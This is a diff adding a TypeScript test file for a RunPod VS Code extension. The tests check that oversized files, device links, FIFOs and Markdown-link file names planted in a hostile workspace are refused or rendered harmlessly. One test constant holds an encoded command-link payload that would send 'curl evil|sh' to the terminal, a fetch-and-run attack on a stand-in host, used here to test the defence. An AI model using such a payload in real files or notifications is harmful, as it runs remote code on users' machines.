@@ -1,0 +1,100 @@
+/**
+ * Workspace files the extension reads on the user's behalf (Launch Pod's template and env files,
+ * Deploy Endpoint's, Compare Environments', Find Usages' own search), in a hostile repository: a 5 GB sparse
+ * `x.runpod.json`, a link to /dev/zero, a FIFO. Each is refused before a byte is read, with a
+ * message that says why and quotes nothing of it; an open editor's text is still what counts.
+ */
+import { beforeEach, describe, expect, it, vi } from 'vitest';
+
+vi.mock('vscode', async () => await import('./vscodeFake'));
+
+import { loadEnvFile, loadTemplateFile } from '../../client/src/launch/ui/launchWizard';
+import { loadDeployFile } from '../../client/src/serverless/ui/deployWizard';
+import { findEnvironments, loadSources } from '../../client/src/environments/workspaceFiles';
+import { fake, FileType, Uri } from './vscodeFake';
+
+/** The fake's Uri where the code under test takes VS Code's. */
+const fileUri = (path: string) => Uri.from({ scheme: 'file', path }) as never;
+const api = { getTemplate: async () => { throw new Error('not asked'); } };
+const TEMPLATE = '{ "name": "t", "imageName": "img:1", "env": { "A": "{{ RUNPOD_SECRET_hf-token }}" } }\n';
+const SPECIAL = {
+  huge: { type: FileType.File, size: 5 * 1024 ** 3 },
+  device: { type: FileType.Unknown | FileType.SymbolicLink, size: 0 },
+  fifo: { type: FileType.Unknown, size: 0 },
+};
+
+beforeEach(() => fake.reset());
+
+describe('files a hostile repository plants where the extension reads', () => {
+  it('Launch Pod: a template file too large, a link to a device or a FIFO is refused unread, saying why', async () => {
+    for (const [what, stat] of Object.entries(SPECIAL)) {
+      const path = `/w/${what}.runpod.json`;
+      fake.files.set(path, TEMPLATE);
+      fake.stats.set(path, stat);
+      const loaded = await loadTemplateFile(api, fileUri(path));
+      expect(loaded, what).toEqual(expect.stringMatching(what === 'huge' ? /larger than 2 MiB/ : /not a regular file/));
+    }
+    expect(fake.reads).toEqual([]);
+  });
+
+  it('Launch Pod: an env file likewise; an ordinary one is read', async () => {
+    fake.files.set('/w/fifo.runpod.env', 'A=1\n');
+    fake.stats.set('/w/fifo.runpod.env', SPECIAL.fifo);
+    await expect(loadEnvFile(fileUri('/w/fifo.runpod.env'))).rejects.toThrow(/fifo\.runpod\.env is not a regular file/);
+    fake.files.set('/w/ok.runpod.env', 'A=1\n');
+    expect((await loadEnvFile(fileUri('/w/ok.runpod.env'))).env).toEqual({ A: '1' });
+    expect(fake.reads).toEqual(['/w/ok.runpod.env']);
+  });
+
+  it('Deploy Endpoint: a link to a device is refused unread', async () => {
+    fake.files.set('/w/dev.runpod.json', TEMPLATE);
+    fake.stats.set('/w/dev.runpod.json', SPECIAL.device);
+    expect(await loadDeployFile(api, fileUri('/w/dev.runpod.json'), [])).toMatch(/not a regular file/);
+    expect(fake.reads).toEqual([]);
+  });
+
+  it('Compare Environments: such a file is left out unread', async () => {
+    fake.files.set('/w/train.dev.runpod.env', 'A={{ RUNPOD_SECRET_hf-token }}\n');
+    fake.files.set('/w/train.prod.runpod.env', 'A={{ RUNPOD_SECRET_hf-token }}\n');
+    fake.stats.set('/w/train.prod.runpod.env', SPECIAL.device);
+    const environments = await findEnvironments();
+    const { unread } = await loadSources(environments, environments.groups);
+    expect(unread).toEqual(['/w/train.prod.runpod.env']);
+    expect(fake.reads).not.toContain('/w/train.prod.runpod.env');
+  });
+});
+
+describe('a file name that is a Markdown link', () => {
+  // VS Code renders [text](target) in a notification as a link, command: targets included.
+  const LINK = '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
+  const forms = (text: string) => /\]\(command:/.test(text);
+
+  it('forms no link in the error Launch Pod and Deploy Endpoint show for its file', async () => {
+    const path = `/w/${LINK}.runpod.json`;
+    fake.files.set(path, '{ "name": ');
+    const launch = await loadTemplateFile(api, fileUri(path));
+    expect(launch).toEqual(expect.stringContaining('Not valid JSON'));
+    expect(forms(launch as string)).toBe(false);
+    const deploy = await loadDeployFile(api, fileUri(path), []);
+    expect(deploy).toEqual(expect.any(String));
+    expect(forms(deploy as string)).toBe(false);
+    fake.stats.set(path, SPECIAL.fifo);
+    expect(forms((await loadTemplateFile(api, fileUri(path))) as string)).toBe(false);
+  });
+});
+
+describe('runpod.environments of a hostile workspace', () => {
+  it('finding the environments is one file search for all declared globs, not one per glob', async () => {
+    const { workspace } = await import('./vscodeFake');
+    fake.settings = {
+      environments: Object.fromEntries(Array.from({ length: 64 }, (_, e) => [`env${e}`, Array.from({ length: 16 }, (_, g) => `deploy/e${e}/g${g}/*.env`)])),
+    };
+    fake.files.set('/w/deploy/e3/g5/api.env', 'A=1\n');
+    fake.files.set('/w/deploy/e4/g5/api.env', 'A=2\n');
+    const search = vi.spyOn(workspace, 'findFiles');
+    const found = await findEnvironments();
+    expect(search.mock.calls.length).toBeLessThanOrEqual(3);
+    expect([...found.uris.keys()].sort()).toEqual(['/w/deploy/e3/g5/api.env', '/w/deploy/e4/g5/api.env']);
+    search.mockRestore();
+  });
+});
